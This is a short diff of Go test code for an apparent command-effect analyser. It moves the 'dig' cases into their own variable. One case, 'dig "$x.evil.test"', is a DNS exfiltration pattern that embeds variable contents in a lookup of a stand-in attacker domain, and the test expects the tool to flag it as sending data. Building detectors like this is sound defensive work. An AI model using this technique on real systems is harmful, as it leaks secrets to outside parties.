@@ -19,13 +19,14 @@ var dig = Program{
 		},
 		Refine: digNames,
 	},
-	Cases: []Case{
-		{`dig +short h.test mx`, `Query h.test; Query mx`},
-		{`dig @ns.test -t a -x 10.0.0.1 h.test`, `Query ns.test; Query h.test`},
-		{`dig -f l`, `Read l`},
-		{`dig -u -y k:s h.test`, `Query h.test`},
-		{`dig "$x.evil.test"`, `Send ….evil.test`},
-	},
+}
+
+var digCases = []Case{
+	{`dig +short h.test mx`, `Query h.test; Query mx`},
+	{`dig @ns.test -t a -x 10.0.0.1 h.test`, `Query ns.test; Query h.test`},
+	{`dig -f l`, `Read l`},
+	{`dig -u -y k:s h.test`, `Query h.test`},
+	{`dig "$x.evil.test"`, `Send ….evil.test`},
 }
 
 // digNames: a name that is made of what is not known carries it to whoever
